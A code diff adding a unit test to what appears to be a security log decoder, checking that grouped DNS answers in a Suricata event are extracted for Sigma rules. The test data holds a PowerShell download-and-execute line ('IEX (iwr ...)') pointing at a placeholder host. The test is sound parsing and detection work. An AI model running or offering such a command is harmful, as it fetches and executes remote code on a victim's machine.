@@ -1007,6 +1007,18 @@ TEST(Cef, ReceiptTimeInDateForms) {
               "2026-11-19T08:02:46.000Z");
 }
 
+// Suricata's "grouped" DNS answers are answers too (Sigma's `answer`).
+TEST(Suricata, GroupedDnsAnswers) {
+    auto d = Decode(
+        R"j({"timestamp":"2026-11-20T03:10:06.123456+0000","flow_id":1,"event_type":"dns",)j"
+        R"j("src_ip":"10.0.0.2","dest_ip":"10.0.0.23","dns":{"version":2,"type":"answer",)j"
+        R"j("rrname":"cfg.example","rrtype":"TXT","grouped":{"TXT":["IEX (iwr http://x/b)","v=1"],)j"
+        R"j("A":["192.0.2.1"],"SOA":[{"mname":"ns.example"}]}}})j");
+    ASSERT_TRUE(d.status) << Error(d);
+    EXPECT_EQ(d.all("answer"),
+              (std::vector<std::string>{"IEX (iwr http://x/b)", "v=1", "192.0.2.1"}));
+}
+
 TEST(Leef, Versions1And2) {
     auto a = Decode(
         "LEEF:1.0|Acme|IDS|2.0|portscan|src=203.0.113.5\tdst=198.51.100.7\t"
